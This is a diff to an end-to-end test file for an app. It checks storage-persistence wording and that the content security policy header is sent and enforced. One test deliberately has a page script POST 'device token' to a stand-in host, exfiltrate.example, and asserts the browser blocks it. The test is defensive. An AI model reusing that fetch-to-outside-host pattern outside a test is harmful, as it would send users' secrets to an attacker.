@@ -1,5 +1,9 @@
 // The foundation, as a user meets it: first run, profile kept across reloads, every screen
 // reachable, language switch, and screenshots of every screen in English and Spanish.
+import {
+  contentSecurityPolicy,
+  webModeConnectPolicy,
+} from '../../electron/common/content-security-policy';
 import { test, expect, completeFirstRun, saveScreenshot } from './fixtures';
 import { FirstRunPage } from './pages/first-run-page';
 import { SettingsPage } from './pages/settings-page';
@@ -115,17 +119,70 @@ test('settings shows whether storage is persistent, and an unknown route says so
 }) => {
   await completeFirstRun(page);
   await shell.open('Settings');
-  await expect(new SettingsPage(page).storagePersistence()).toContainText(
-    /Persistent|Not persistent|cannot/,
+  const persistence = new SettingsPage(page).storagePersistence();
+  await expect(persistence).not.toContainText('Checking storage');
+  // What the page says is what the browser says, word for word (Chromium has the storage API).
+  const isPersisted = await page.evaluate(() => navigator.storage.persisted());
+  await expect(persistence).toContainText(
+    isPersisted
+      ? 'Persistent: the browser will not clear this data when disk space runs low.'
+      : 'Not persistent: the browser may clear this data when disk space runs low.',
   );
   await page.goto('./#/no-such-screen');
   await expect(page.getByRole('heading', { name: 'This page does not exist.' })).toBeVisible();
 });
 
-test('every response carries the strict content security policy', async ({ page }) => {
+test('every response carries the content security policy, and the browser enforces it', async ({
+  page,
+  cspViolations,
+}) => {
+  // Web mode's policy: the app, loopback (a hub under test) and the hub of HUB_URL, if any.
+  const expected = contentSecurityPolicy(webModeConnectPolicy(process.env.HUB_URL));
+  expect(expected).toContain("connect-src 'self' http://127.0.0.1:* http://localhost:*");
+  expect(expected).not.toContain('https:;');
+  const scripts: Promise<string | undefined>[] = [];
+  page.on('response', (response) => {
+    if (response.request().resourceType() === 'script') {
+      scripts.push(response.allHeaders().then((headers) => headers['content-security-policy']));
+    }
+  });
   const response = await page.goto('./');
-  const csp = response?.headers()['content-security-policy'] ?? '';
-  expect(csp).toContain("script-src 'self'");
-  expect(csp).not.toContain('unsafe-inline');
-  expect(csp).not.toContain('unsafe-eval');
+  expect(response?.headers()['content-security-policy']).toBe(expected);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  expect(scripts.length).toBeGreaterThan(0);
+  expect(new Set(await Promise.all(scripts))).toEqual(new Set([expected]));
+
+  // A script in the page cannot send data to a host of its choosing: connect-src refuses it.
+  const attempt = await page.evaluate(async () => {
+    const violation = new Promise<string>((resolve) =>
+      document.addEventListener('securitypolicyviolation', (event) =>
+        resolve(`${event.effectiveDirective} ${event.blockedURI}`),
+      ),
+    );
+    const outcome = await fetch('https://exfiltrate.example/collect', {
+      method: 'POST',
+      body: 'device token',
+    }).then(
+      () => 'sent',
+      (error: Error) => `refused (${error.name})`,
+    );
+    return { outcome, violation: await violation };
+  });
+  expect(attempt).toEqual({
+    outcome: 'refused (TypeError)',
+    violation: 'connect-src https://exfiltrate.example/collect',
+  });
+  // Chromium reports the violation, then the refused fetch: once the second is in, both are.
+  // They are the ones this test caused on purpose; the fixture fails the test on any other.
+  await expect
+    .poll(() =>
+      cspViolations.some((text) =>
+        text.startsWith('Fetch API cannot load https://exfiltrate.example/'),
+      ),
+    )
+    .toBe(true);
+  expect(
+    cspViolations.filter((text) => !text.includes('https://exfiltrate.example/collect')),
+  ).toEqual([]);
+  cspViolations.length = 0;
 });
